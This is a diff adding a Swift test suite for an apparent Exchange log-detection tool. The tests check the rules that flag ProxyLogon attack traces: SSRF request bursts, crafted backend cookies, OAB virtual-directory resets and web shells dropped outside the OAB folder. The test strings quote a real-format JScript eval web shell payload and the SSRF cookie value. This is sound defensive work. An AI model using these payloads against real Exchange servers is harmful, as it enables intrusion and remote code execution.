@@ -1,0 +1,92 @@
+@testable import ExchangeDetection
+import ExchangeEvidence
+import Testing
+
+/// Test-ProxyLogon parity on real-format HttpProxy, ECP Server and OAB generator lines (HelseCERT's
+/// incident rows, Microsoft Q&A's autodiscover-only row, the nmap probe row of Neo23x0 PR #125).
+@Suite struct ProxyLogonRuleTests {
+    let store: EventStore
+    init() throws { store = try RuleFixtures.store("proxylogon") }
+
+    @Test func ssrfGroupsTheAttackBurstAndQuotesTheAnchor() {
+        let f = RuleFixtures.run("proxylogon.ssrf", on: store)
+        #expect(f.count == 1)  // the 06:49–06:59 chain and the failed reset 20 minutes later: one burst
+        let chain = f.first { $0.events.count == 7 }
+        #expect(chain != nil)
+        #expect(chain?.server == "EX01")
+        #expect(chain?.severity == .high)
+        #expect(chain?.cves == ["CVE-2021-26855"])
+        #expect(chain?.time == Timestamp.parse("2021-03-03T06:49:42.162Z"))
+        #expect(chain?.line == 6)
+        #expect(chain?.file.hasSuffix("HttpProxy/Ecp/HttpProxy_2021030306-1.LOG") == true)
+        #expect(chain?.summary.contains("130.255.189.21") == true)
+        #expect(chain?.summary.contains("/ecp/proxyLogon.ecp (241)") == true)
+        #expect(chain?.summary.contains("schema=ResetOABVirtualDirectory") == true)
+    }
+
+    @Test func autodiscoverOnlyIsKeptSeparatelyAtMedium() {
+        let f = RuleFixtures.run("proxylogon.ssrf-autodiscover", on: store)
+        #expect(f.count == 1)
+        #expect(f.first?.severity == .medium)
+        #expect(f.first?.summary.contains("45.77.252.175") == true)
+        // The attacker's own autodiscover row belongs to its SSRF burst, not to this rule.
+        #expect(f.first?.summary.contains("130.255.189.21") == false)
+    }
+
+    @Test func localhostProbeIsALowScannerFinding() {
+        let f = RuleFixtures.run("proxylogon.scanner-probe", on: store)
+        #expect(f.count == 1)
+        #expect(f.first?.severity == .low)
+        #expect(f.first?.summary.contains("ServerInfo~localhost/ecp/default.flt?") == true)
+        #expect(RuleFixtures.run("proxylogon.ssrf", on: store).allSatisfy { !$0.summary.contains("198.51.100.23") })
+    }
+
+    @Test func backEndCookieWithAPathFiresAndADatabaseCookieDoesNot() {
+        let f = RuleFixtures.run("proxylogon.backend-cookie", on: store)
+        #expect(f.count == 1)
+        #expect(f.first?.summary.contains("Server~a]@EX01.contoso.local:444/ecp/proxyLogon.ecp?#~1941962753") == true)
+        #expect(f.first?.summary.contains("Database~") == false)
+    }
+
+    @Test func resetVirtualDirectoryNeedsStatus200() {
+        let f = RuleFixtures.run("proxylogon.reset-vdir", on: store)
+        #expect(f.count == 1)
+        #expect(f.first?.events.count == 1)
+        #expect(f.first?.time == Timestamp.parse("2021-03-03T06:59:20.359Z"))
+        #expect(f.first?.cves.contains("CVE-2021-27065") == true)
+    }
+
+    @Test func ecpSetVirtualDirectoryWithScriptFiresAndAValidURLDoesNot() {
+        let f = RuleFixtures.run("proxylogon.ecp-set-vdir", on: store)
+        #expect(f.count == 1)
+        let s = f.first?.summary ?? ""
+        #expect(s.hasPrefix("Set-OabVirtualDirectory ExternalUrl='http://f/<script language=\"JScript\" runat=\"server\">"))
+        #expect(s.contains("eval(Request[\"klk123456\"],\"unsafe\")"))
+        #expect(!s.contains("mail.contoso.com"))
+        #expect(f.first?.time == Timestamp.parse("2021-03-03T06:49:53.772Z"))
+    }
+
+    @Test func ecpCheckReadsHelseCERTsTrimmedLineToo() {
+        let line = "2021-03-03T06:49:53.772Z,'S:CMD=Set-OabVirtualDirectory.ExternalUrl=''http://f/<script language=\"\"JScript\"\" runat=\"\"server\"\">function Page_Load(){eval(Request[\"\"klk123456\"\"],\"\"unsafe\"\");}</script>''.Identity=''982d48c8-8bfa-4b6b-b431-53fd7ea4e9b3'''"
+        #expect(VirtualDirectoryCommand.scriptedUrl(in: line) != nil)
+        #expect(VirtualDirectoryCommand.scriptedUrl(in: "S:CMD=Set-OabVirtualDirectory.ExternalUrl='https://mail.contoso.com/OAB'.Identity='x'") == nil)
+        #expect(VirtualDirectoryCommand.scriptedUrl(in: "S:CMD=Set-OwaVirtualDirectory.InternalUrl=$null;S:URL=/ecp/x?a=<b>") == nil)
+    }
+
+    @Test func oabDownloadOutsideTheOABFolderFiresForUNCLocalAndTraversal() {
+        let f = RuleFixtures.run("proxylogon.oab-download", on: store)
+        #expect(f.count == 3)
+        let all = f.map(\.summary).joined(separator: "\n")
+        #expect(all.contains("'\\\\EX01\\C$\\inetpub\\wwwroot\\aspnet_client\\discover.aspx' needs to be removed: UNC path"))
+        #expect(all.contains("owa\\auth\\one.aspx' needs to be removed: path is outside <install>\\ClientAccess\\OAB"))
+        #expect(all.contains("climbs out with '..'"))
+        #expect(!all.contains("OAB\\Temp\\f3a1c2d4"))
+    }
+
+    @Test func oabPathClassification() {
+        #expect(OABDownloadRule.suspicion("C:\\Program Files\\Microsoft\\Exchange Server\\V15\\ClientAccess\\OAB\\Temp\\a\\b.xml") == nil)
+        #expect(OABDownloadRule.suspicion("D:\\Exchange\\ClientAccess\\OAB\\Temp\\x.lzx") == nil)
+        #expect(OABDownloadRule.suspicion("\\\\10.1.1.1\\share\\x.aspx") == "UNC path")
+        #expect(OABDownloadRule.suspicion("C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx") != nil)
+    }
+}
